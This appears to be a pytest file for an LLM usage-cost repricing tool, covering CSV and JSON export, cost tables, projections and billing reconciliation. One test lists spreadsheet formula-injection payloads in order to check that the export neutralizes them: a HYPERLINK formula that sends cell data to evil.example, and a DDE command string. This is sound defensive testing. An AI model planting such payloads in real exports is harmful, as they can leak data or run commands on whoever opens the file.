"""Pure pieces behind the upload page: the re-priced CSV, the summary JSON, the page's
tables and sentences, and the sample catalogue (AppTest cannot read download bytes)."""

from __future__ import annotations

import datetime as dt
import io
import json

import numpy as np
import pandas as pd
import pytest

from model.usage.export import ROW_COLUMNS, cost_column, repriced_csv, summary_json
from model.usage.outlook import Substitution, project_log
from model.usage.readers import read_usage
from model.usage.reconcile import reconcile
from model.usage.reprice import reprice_frame, summary
from model.usage.samples import list_samples
from model.usage.tables import (
    cheapest_option,
    cheapest_sentence,
    compare_views,
    model_mapping,
    options_table,
    projection_bands,
    projection_totals,
    reconciliation_sentence,
    understood,
    unmapped_text,
)
from pricing.versions import PriceBook
from tests.conftest import DATA, PRICING_DATA

SAMPLES = DATA / "samples"
pytestmark = pytest.mark.skipif(not PRICING_DATA.is_dir(), reason="data/pricing has no version yet")


@pytest.fixture(scope="module")
def book() -> PriceBook:
    return PriceBook.load(PRICING_DATA)


@pytest.fixture(scope="module")
def generic(book: PriceBook):
    read = read_usage((SAMPLES / "generic_small.csv").read_bytes(), "generic_small.csv")
    return read, reprice_frame(read.frame, book)


@pytest.fixture(scope="module")
def openrouter(book: PriceBook):
    name = "openrouter_generations__REAL_2026-03.csv"
    read = read_usage((SAMPLES / name).read_bytes(), name)
    return read, reprice_frame(read.frame, book)


def test_repriced_csv_rows_and_costs_match_the_engine(generic) -> None:
    read, costing = generic
    out = pd.read_csv(io.BytesIO(repriced_csv(costing)))
    assert list(out.columns) == [*ROW_COLUMNS, *(cost_column(o.id) for o in costing.options)]
    assert len(out) == len(read.frame) == 40
    for o in costing.options:
        col = out[cost_column(o.id)].to_numpy()
        np.testing.assert_allclose(col, o.token_cost, equal_nan=True)
        assert np.nansum(col) == pytest.approx(o.token_cost_usd)
    # Unknown model: empty cells (NaN), never a $0 cost.
    unknown = out[out["model_raw"] == "acme-omni-7"]
    assert len(unknown) == 3 and unknown[cost_column("direct")].isna().all()
    assert out["timestamp"].iloc[0] == "2026-03-01T09:00:00.000Z"


def test_repriced_csv_keeps_no_text_columns(book: PriceBook) -> None:
    data = (
        b"timestamp,model,input_tokens,output_tokens,prompt,response\n"
        b'2026-10-01T00:00:00Z,gpt-4o,10,5,"secret prompt","secret answer"\n'
    )
    read = read_usage(data, "p.csv")
    text = repriced_csv(reprice_frame(read.frame, book)).decode()
    assert "secret" not in text


def test_summary_json_is_the_cli_contract(generic) -> None:
    read, costing = generic
    result = summary(costing, fmt=read.format, rows=read.rows, read_warnings=read.warnings)
    parsed = json.loads(summary_json(result))
    assert parsed["rows"] == 40 and parsed["unpriced"] == {"acme-omni-7": 3}
    assert [o["id"] for o in parsed["options"]] == [o.id for o in costing.options]
    assert parsed["options"][0]["total_usd"] == pytest.approx(costing.options[0].total_usd)


def test_page_tables(generic, book: PriceBook) -> None:
    read, costing = generic
    facts = dict(understood(read, costing))
    assert facts["Rows read"] == "40" and facts["Format"] == "generic_csv"
    assert facts["Models"].startswith("4 priced · 1 unknown (3 rows")
    mapping = model_mapping(costing)
    assert mapping.iloc[0].to_dict() == {
        "model_raw": "acme-omni-7",
        "model": "acme-omni-7",
        "rows": 3,
        "priced": False,
    }
    assert unmapped_text({"b": 1, "a": 3}) == "a (3 rows), b (1 row)"
    table = options_table(costing)
    assert table["total_usd"].tolist() == pytest.approx([o.total_usd for o in costing.options])
    assert (table["rank"] == 1).sum() == 1
    assert table.loc[table["rank"] == 1, "id"].item() == cheapest_option(costing)
    latest = reprice_frame(read.frame, book, pricing="latest")
    views = compare_views(costing, latest)
    assert views["latest_usd"].tolist() == pytest.approx([o.total_usd for o in latest.options])


def test_cheapest_compares_the_same_rows(openrouter) -> None:
    """Issue 8: OpenRouter was crowned because the others cannot price the 15 :free rows it
    served at $0. On the 53 paid rows every option prices, pooled is cheapest."""
    _, costing = openrouter
    assert cheapest_option(costing) == "pooled"
    text = cheapest_sentence(costing)
    names = {o.id: o.option.name for o in costing.options}
    assert text.startswith(f"Cheapest on the 53 rows every option prices: **{names['pooled']}**")
    assert f"less than {names['direct']} ($4.39); {names['openrouter']} $4.63." in text
    assert "15 rows of 6 models not every option sells are outside this comparison: " in text
    assert f"{names['openrouter']} charges $0.00 for 15 rows" in text
    table = options_table(costing).set_index("id")
    assert table.loc["pooled", "rank"] == 1 and table.loc["openrouter", "rank"] == 3
    assert round(table.loc["pooled", "same_rows_usd"], 2) == 3.51


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)",
     "-2+3+cmd", "\tlead-tab", "\rlead-cr"],
)  # fmt: skip
def test_repriced_csv_neutralizes_formulas_in_every_text_cell(book: PriceBook, name: str) -> None:
    frame = read_usage(
        b"timestamp,model,input_tokens,output_tokens\n2026-10-01T00:00:00Z,gpt-4o,10,5\n", "a.csv"
    ).frame
    frame["model_raw"] = frame["model"] = frame["provider"] = pd.array([name], dtype="string")
    out = pd.read_csv(io.BytesIO(repriced_csv(reprice_frame(frame, book))), dtype=str)
    text_columns = [col for col in out.columns if col in ("model_raw", "model", "provider")]
    assert text_columns == ["model_raw", "model", "provider"]
    for col in text_columns:
        assert out[col].iloc[0] == "'" + name, col
    assert out["cost_direct_usd"].isna().all()  # unknown model: empty, never $0


def test_reconciliation_sentence(openrouter) -> None:
    read, costing = openrouter
    rec = reconcile(costing, read.format)
    assert rec is not None
    text = reconciliation_sentence(rec, "OpenRouter")
    assert text.startswith("Computed **$4.39** through OpenRouter vs billed **$4.39** (+0.0004 %)")


def test_projection_bands_price_every_option(generic, book: PriceBook) -> None:
    _, costing = generic
    projection = project_log(costing.frame, months=3, today=dt.date(2026, 11, 30))
    bands = projection_bands(projection, book, None)
    assert len(bands) == 3 * len(costing.options)
    assert (bands["low"] <= bands["base"]).all() and (bands["base"] <= bands["high"]).all()
    moved = projection_bands(
        project_log(
            costing.frame,
            months=3,
            substitutions=[Substitution("gpt-5.4", "batch", 1)],
            today=dt.date(2026, 11, 30),
        ),
        book,
        None,
    )
    direct = lambda b: b[b["option"] == "direct"]["base"].sum()  # noqa: E731
    assert direct(moved) < direct(bands)  # batch is cheaper direct
    totals = projection_totals(bands, {"direct": "Direct"})
    assert totals["base"].is_monotonic_increasing and "Direct" in totals["option"].tolist()


def test_samples_have_provenance() -> None:
    samples = list_samples(SAMPLES)
    assert samples[0].name == "generic_small.csv"
    names = {s.name for s in samples}
    assert "openrouter_generations__REAL_2026-03.csv" in names
    for s in samples:
        assert s.format and s.source and s.provenance, s.name
        assert not s.source.startswith("same "), s.name


@pytest.mark.parametrize("by", ["model", "day", "month"])
@pytest.mark.parametrize("which", ["generic", "openrouter"])
def test_fast_breakdown_equals_cost_table(by: str, which: str, request) -> None:
    from model.usage.reconcile import cost_table
    from model.usage.tables import breakdown

    _, costing = request.getfixturevalue(which)
    expected = cost_table(costing, by)
    got = breakdown(costing, by)
    pd.testing.assert_frame_equal(
        got.sort_index(), expected.sort_index(), check_index_type=False, check_names=True
    )


def test_priced_models_and_mapping_on_codes(openrouter) -> None:
    from model.usage.tables import priced_models

    _, costing = openrouter
    assert "claude-opus-4-6" in priced_models(costing)
    mapping = model_mapping(costing).set_index("model_raw")
    assert mapping.loc["anthropic/claude-4.6-opus-20260205", "model"] == "claude-opus-4-6"
    assert mapping["rows"].sum() == 68


def test_period_counts_calendar_days_like_the_projection(book: PriceBook) -> None:
    """10:00 on the 22nd to 09:00 on the 24th is 3 calendar days (22, 23, 24), although
    less than 48 hours: the page once said "2 days" next to the projection's 3."""
    from model.usage.forecast import daily_series

    read = read_usage(
        b"timestamp,model,input_tokens,output_tokens\n"
        b"2026-03-22T10:00:00Z,gpt-4o,10,5\n2026-03-24T09:00:00Z,gpt-4o,10,5\n",
        "p.csv",
    )
    facts = dict(understood(read, reprice_frame(read.frame, book)))
    assert facts["Period"].endswith("(3 calendar days)")
    assert len(daily_series(read.frame)) == 3
